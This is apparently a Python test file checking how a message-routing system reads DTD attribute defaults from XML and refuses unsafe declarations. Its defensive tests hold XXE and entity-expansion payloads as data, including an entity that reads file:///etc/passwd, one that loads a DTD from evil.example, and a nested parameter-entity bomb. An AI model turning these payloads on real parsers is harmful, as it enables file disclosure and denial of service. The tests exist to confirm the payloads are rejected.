"""Documents with a document type declaration: rules look into them, and attributes that a DTD gives a default to count."""

from __future__ import annotations

import time

import pytest

from postroad.core.model.asset import Asset, AssetKind
from postroad.core.model.rule import Condition, RuleRole
from postroad.core.routing.conditions.subject import Subject
from postroad.core.routing.paths.schema_defaults import default_attributes_of
from postroad.core.routing.rules.rule_check import find_place_errors
from postroad.core.schemas.dtd_defaults import read_dtd
from postroad.errors import Refused
from tests.samples.conditions import body, compare, directory, holds, subject, xml
from tests.unit.core.routing.conditions.test_attribute_defaults import OWNER

INTERNAL = """<?xml version="1.0"?>
<!-- an order -->
<!DOCTYPE Order [
  <!ELEMENT Order (Line*)> <!-- with ] and > in "a comment -->
  <!ATTLIST Order currency CDATA "EUR" kind (big|small) 'small' note CDATA #IMPLIED>
  <!ATTLIST Line unit NMTOKEN #FIXED " kg " text CDATA "a &lt; b]>">
]>
<Order kind="big"><Line/></Order>"""
DTD = """<!ENTITY % common 'lang CDATA "en" zone CDATA "UTC"'>
<!ENTITY % lists '<!ATTLIST Line unit CDATA "piece">'>
<!ELEMENT Order (Line*)>
<!ATTLIST Order %common; currency CDATA "USD">
%lists;"""


def owned(data: str, *assets: Asset) -> Subject:
    defaults = default_attributes_of(OWNER.gcid, directory(OWNER, *assets))
    return subject(xml(data)).seen_by(OWNER.gcid, role=RuleRole.SENDER, topic="", default_attributes=defaults)


def dtd(name: str, content: str = DTD) -> Asset:
    return Asset(service=OWNER.gcid, kind=AssetKind.DTD, name=name, content=content)


def equals(path: str, value: str, schema: str = "") -> Condition:
    return compare("equals", body(path, schema=schema), value)


@pytest.mark.req("R2")
@pytest.mark.parametrize(
    ("path", "value"),
    [
        ("/Order/@currency", "EUR"),
        ("/Order/@kind", "big"),
        ("/Order/Line/@unit", "kg"),
        ("/Order/Line/@text", "a < b]>"),
    ],
)
def test_the_defaults_of_an_internal_subset_count(path: str, value: str) -> None:
    assert holds(equals(path, value), subject(xml(INTERNAL)))
    assert not holds(compare("exists", body("/Order/@note")), subject(xml(INTERNAL)))


@pytest.mark.req("R2")
def test_a_document_that_names_a_dtd_is_read_and_the_services_own_copy_gives_defaults() -> None:
    order = '<!DOCTYPE Order SYSTEM "http://acme.example/dtds/Orders.dtd"><Order><Line/></Order>'
    assert holds(compare("exists", body("/Order/Line")), owned(order))
    assert not holds(compare("exists", body("/Order/@lang")), owned(order)), "nothing is fetched"
    known = owned(order, dtd("orders.dtd"))
    for path, value in (("/Order/@lang", "en"), ("/Order/@currency", "USD"), ("/Order/Line/@unit", "piece")):
        assert holds(equals(path, value), known)
    assert holds(equals("/Order/@zone", "UTC", schema="orders.dtd"), owned("<Order/>", dtd("orders.dtd")))


@pytest.mark.req("R2")
def test_the_internal_subset_comes_before_the_dtd() -> None:
    order = '<!DOCTYPE Order SYSTEM "orders" [<!ATTLIST Order currency CDATA "CHF">]><Order/>'
    assert holds(equals("/Order/@currency", "CHF"), owned(order, dtd("orders")))
    assert holds(equals("/Order/@lang", "en"), owned(order, dtd("orders")))


@pytest.mark.req("Z2")
@pytest.mark.parametrize(
    "subset",
    [
        '<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">',
        '<!ENTITY file SYSTEM "file:///etc/passwd">',
        '<!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;',
        "%undeclared;",
        "<![INCLUDE[<!ATTLIST Order a CDATA 'x'>]]>",
        "<!ATTLIST Order a CDATA 'x'",
        "<!-- never closed",
    ],
)
def test_a_declaration_with_entities_stays_unread_with_a_reason(subset: str) -> None:
    about = subject(xml(f"<!DOCTYPE Order [{subset}]><Order a='1'>&a;</Order>"))
    assert not holds(compare("exists", body("/Order")), about)
    [fault] = about.documents.faults
    assert "document type declaration" in fault


@pytest.mark.req("Z2")
@pytest.mark.parametrize(
    "hostile", ['<!ATTLIST a b CDATA "', "<!ENTITY % a '", "<!--", "<?", "%a", "<!ATTLIST a (", "\"'"]
)
def test_reading_costs_in_proportion_to_the_text(hostile: str) -> None:
    begun = time.process_time()
    text = hostile * (1_000_000 // len(hostile))
    with pytest.raises(Refused):
        read_dtd(text + "%nowhere;" if "<!--" not in hostile else text)
    holds(compare("exists", body("/Order")), subject(xml(f"<!DOCTYPE Order [{text}]><Order/>")))
    assert time.process_time() - begun < 5


@pytest.mark.req("Z2")
def test_parameter_entities_expand_to_a_bounded_size() -> None:
    bomb = '<!ENTITY % a0 "0123456789">' + "".join(f'<!ENTITY % a{n} "{f"%a{n - 1};" * 20}">' for n in range(1, 7))
    for text in (
        bomb + "<!ATTLIST x %a6;>",
        '<!ENTITY % a "%a;"><!ATTLIST x %a;>',
        "<!ATTLIST x %missing;>",
        "nothing",
    ):
        with pytest.raises(Refused, match=r"schema\.invalid"):
            read_dtd(text)


@pytest.mark.req("R2")
def test_a_rule_may_name_a_dtd_of_its_service() -> None:
    place = body("/Order/@lang", schema="orders")
    assert list(find_place_errors(place, "", directory(OWNER, dtd("orders")), OWNER)) == []
    assert list(find_place_errors(place, "", directory(OWNER), OWNER)) != []
